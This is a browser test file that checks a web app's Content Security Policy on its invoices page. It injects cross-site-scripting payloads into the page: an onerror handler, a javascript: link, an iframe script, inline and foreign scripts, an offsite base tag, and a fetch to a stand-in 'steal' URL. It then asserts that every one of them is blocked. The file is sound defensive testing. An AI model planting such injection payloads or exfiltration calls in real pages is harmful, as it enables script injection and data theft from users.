import { afterAll, beforeAll, expect, test } from 'vitest'
import { type App, openApp } from '../support/browser.ts'

let app: App
beforeAll(async () => {
  app = await openApp()
})
afterAll(() => app.stop())

declare global {
  interface Window {
    ran?: string[]
  }
}

test('an injected script does not run, and nothing is fetched from other hosts', async () => {
  const page = await app.page('Salesman')
  const refused: string[] = []
  page.on('console', message => void (message.text().includes('Content Security Policy') && refused.push(message.text())))
  await page.goto('/sales-and-clients/invoices')
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  await page.evaluate(() => {
    const place = document.createElement('div')
    place.innerHTML = `<img src="x:" onerror="(window.ran ??= []).push('handler')"><a id="link" href="javascript:(window.ran ??= []).push('link')">x</a><iframe srcdoc="<script>(parent.ran ??= []).push('frame')</script>"></iframe>`
    const inline = document.createElement('script')
    inline.textContent = "(window.ran ??= []).push('inline')"
    const foreign = document.createElement('script')
    foreign.src = 'https://elsewhere.example/x.js'
    const base = document.createElement('base')
    base.href = 'https://elsewhere.example/'
    document.body.append(place, inline, foreign, base)
    document.querySelector<HTMLAnchorElement>('#link')!.click()
    // Code in page.evaluate bypasses the content policy. Code in a timer does not.
    setTimeout(() => new Function("(window.ran ??= []).push('function')")())
    void fetch('https://elsewhere.example/steal').catch(() => {})
  })
  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(9)
  expect(await page.evaluate(() => [window.ran ?? [], document.baseURI.startsWith(location.origin)])).toEqual([[], true])
  await app.close(page)
})
